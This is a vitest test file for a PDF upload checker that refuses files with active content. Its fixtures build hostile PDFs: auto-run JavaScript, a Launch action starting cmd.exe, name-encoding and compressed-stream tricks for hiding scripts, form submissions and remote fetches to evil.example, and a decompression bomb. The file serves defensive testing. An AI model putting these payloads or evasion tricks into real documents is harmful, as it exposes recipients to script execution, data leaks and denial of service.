import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { fileSentences } from '#shared/files/rules.ts'
import { encrypted } from './encrypted.test.data.ts'
import { problemWithPdf } from './find-active.ts'

const latin = (text: string) => Buffer.from(text, 'latin1')

const file = (...parts: (string | Buffer)[]) =>
	Buffer.concat([
		latin('%PDF-1.7\n'),
		...parts.map((part) => (typeof part === 'string' ? latin(part) : part)),
		latin('\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'),
	])

const object = (number: number, text: string) => `${number} 0 obj\n${text}\nendobj\n`
const catalog = (text = '') => object(1, `<< /Type /Catalog /Pages 2 0 R ${text} >>`)
const stream = (dict: string, bytes: Buffer | string) =>
	Buffer.concat([
		latin(`7 0 obj\n<< ${dict} >>\nstream\r\n`),
		typeof bytes === 'string' ? latin(bytes) : bytes,
		latin('\nendstream\nendobj\n'),
	])

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const packed = (text: string) => deflateSync(latin(text))
const packedScript = packed(`9 0 ${script}`)
const hexadecimal = (bytes: Buffer) => latin(`${bytes.toString('hex')}>`)

const startsSomething: [what: string, bytes: Buffer][] = [
	['a script', file(catalog(`/OpenAction ${script}`))],
	['a program to start', file(catalog('/OpenAction << /S /Launch /F (cmd.exe) >>'))],
	['a script with encoded characters', file(catalog('/OpenAction << /S /J#61vaScr#69pt >>'))],
	['every character encoded', file(catalog('/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 >>'))],
	['packed objects', file(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packedScript))],
	[
		'more than a megabyte of packed objects',
		file(stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`9 0 ${' '.repeat(2_000_000)}${script}`))),
	],
	['an encoded type', file(stream('/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode', packedScript))],
	['no type', file(stream('/N 1 /First 4 /Filter /FlateDecode', packedScript))],
	['an encoded filter', file(stream('/Type /ObjStm /N 1 /First 4 /Filter [/Fl#61teDecode]', packedScript))],
	[
		'a long dictionary',
		file(stream(`/Type /ObjStm /N 1 /First 4 /X (${'x'.repeat(5000)}) /Filter /FlateDecode`, packedScript)),
	],
	[
		'a text and a comment with the word stream',
		file(stream('/Type /ObjStm /N 1 /X (>> stream\n) % stream\n/First 4 /Filter /FlateDecode', packedScript)),
	],
	['a form that is sent', file(catalog('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'))],
	['data that is fetched', file(object(5, '<< /S /ImportData /F (\\\\\\\\evil.example\\\\x) >>'))],
	['a page of the web that opens', file(catalog('/OpenAction << /S /URI /URI (https://evil.example) >>'))],
	[
		'a file of a stranger that opens',
		file(catalog('/OpenAction 5 0 R'), object(5, '<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) >>')),
	],
	['a kind of action that is written elsewhere', file(catalog('/OpenAction << /S 5 0 R >>'), object(5, '/GoToR'))],
	[
		'an event of a page',
		file(catalog(), object(3, '<< /AA 5 0 R >>'), object(5, '<< /O 6 0 R >>'), object(6, '<< /S /URI >>')),
	],
	[
		'what comes after a harmless action',
		file(catalog('/OpenAction << /S /GoTo /D [3 0 R] /Next [<< /S /Named >> << /S /URI >>] >>')),
	],
	['a key that is written twice', file(catalog('/OpenAction << /S /URI >> /OpenAction [3 0 R /Fit]'))],
	[
		'an object that is written twice',
		file(catalog('/OpenAction 5 0 R'), object(5, '<< /S /URI >>'), object(5, '<< /S /GoTo >>')),
	],
	[
		'an object that a stream seems to swallow',
		file(stream('/Length 99 0 R', 'stream'), catalog('/OpenAction << /S /URI >>'), '\nendstream\nstream\nendstream'),
	],
	['an object within a text', file(object(4, `(${catalog('/OpenAction << /S /URI >>')})`))],
	['a comment within the head', file('7 0 %comment\nobj << /OpenAction << /S /URI >> >> endobj')],
	['a script of a clip', file(object(5, '<< /S /Rendition /JS (x) >>'))],
	['a script of a form’s own kind', file(catalog('/AcroForm << /XFA 5 0 R >>'))],
	['a model in three dimensions', file(object(5, '<< /Type /Annot /Subtype /3D >>'))],
	['a file within the file', file(object(5, '<< /Type /Filespec /EF << /F 6 0 R >> >>'))],
	['a script below a password that is empty', encrypted['rc4 40'].hasScript],
	['the same, with a longer key', encrypted['rc4 128'].hasScript],
	['the same, with AES', encrypted['aes 128'].hasScript],
	['the same, as it’s encrypted today', encrypted['aes 256'].hasScript],
]

test.each(startsSomething)('%s is refused with what to do instead', (_, bytes) => {
	expect(problemWithPdf(bytes)).toBe(fileSentences.active)
})

const nested = (text: string, times: number) => text.repeat(times)
const objects = '/Type /ObjStm /N 1 /First 4'

const unreadable: [what: string, bytes: Buffer][] = [
	[
		'objects that are packed twice',
		file(stream(`${objects} /Filter [/ASCIIHexDecode /FlateDecode]`, hexadecimal(packedScript))),
	],
	[
		'objects that are packed in a way nobody uses',
		file(stream(`${objects} /Filter /ASCIIHexDecode`, hexadecimal(latin(script)))),
	],
	['a short form that some programs read', file(stream(`${objects} /F /FlateDecode`, packedScript))],
	[
		'a filter that is written elsewhere',
		file(stream(`${objects} /Filter 8 0 R`, packedScript), object(8, '/FlateDecode')),
	],
	[
		'a filter with parameters',
		file(stream(`${objects} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>`, packedScript)),
	],
	['packed objects that are broken', file(stream(`${objects} /Filter /FlateDecode`, packedScript.subarray(0, 20)))],
	['packed objects without their number', file(stream('/First 4 /Filter /FlateDecode', packed('9 0 []')))],
	['a bomb', file(stream(`${objects} /Filter /FlateDecode`, deflateSync(Buffer.alloc(60_000_000, ' '))))],
	['lists within lists', file(object(5, nested('[', 100_000)))],
	['dictionaries within dictionaries', file(object(5, nested('<< /A ', 100_000)))],
	['texts without an end', file('5 0 obj ('.repeat(10_000))],
	['a great many objects', file('5 0 obj\n'.repeat(600_000))],
	[
		'actions one after the other',
		file(
			catalog('/OpenAction 10 0 R'),
			...Array.from({ length: 5000 }, (_, at) => object(at + 10, `<< /S /GoTo /Next ${at + 11} 0 R >>`)),
		),
	],
	['an encryption that nobody knows', file(object(5, '<< /Filter /Standard /V 9 >>'), 'trailer << /Encrypt 5 0 R >>')],
]

test.each(unreadable)('%s can’t be checked, so the file is refused', (_, bytes) => {
	expect(problemWithPdf(bytes)).toBe(fileSentences.unreadable)
})

test('a file that only opens with a password is refused before anyone waits for it', () => {
	for (const kind of ['rc4 128', 'aes 256'] as const)
		expect(problemWithPdf(encrypted[kind].needsPassword)).toBe(fileSentences.locked)
})

const harmless: [what: string, bytes: Buffer][] = [
	['a page', file(catalog(), object(2, '<< /Type /Pages /Kids [] /Count 0 >>'))],
	['a first page to show', file(catalog('/OpenAction [3 0 R /XYZ null null 0]'))],
	['the same, as an action', file(catalog('/OpenAction 5 0 R'), object(5, '<< /S /GoTo /D [3 0 R /Fit] >>'))],
	['a printer’s dialog', file(catalog('/OpenAction << /S /Named /N /Print >>'))],
	['a link to a page of the web', file(object(5, '<< /Subtype /Link /A << /S /URI /URI (https://x.example) >> >>'))],
	['a link to another file', file(object(5, '<< /Subtype /Link /A << /S /GoToR /F (terms.pdf) >> >>'))],
	['words that only begin like it', file(catalog('/LaunchPad true /JavaScripts []'))],
	['the short names in a picture', file(stream('/Subtype /Image', ' /JS /EF /3D 7obj obj (('))],
	['packed objects without a script', file(stream(`${objects} /Filter /FlateDecode`, packed('9 0 << /S /URI >>')))],
	['objects that aren’t packed', file(stream(objects, '9 0 << /S /URI >>'))],
	['actions in a circle', file(catalog('/OpenAction 5 0 R'), object(5, '<< /S /GoTo /Next 5 0 R >>'))],
	['a page below a password that is empty', encrypted['rc4 40'].opens],
	['the same, with a longer key', encrypted['rc4 128'].opens],
	['the same, with AES', encrypted['aes 128'].opens],
	['the same, as it’s encrypted today', encrypted['aes 256'].opens],
]

test.each(harmless)('%s is no reason to refuse it', (_, bytes) => {
	expect(problemWithPdf(bytes)).toBeUndefined()
})
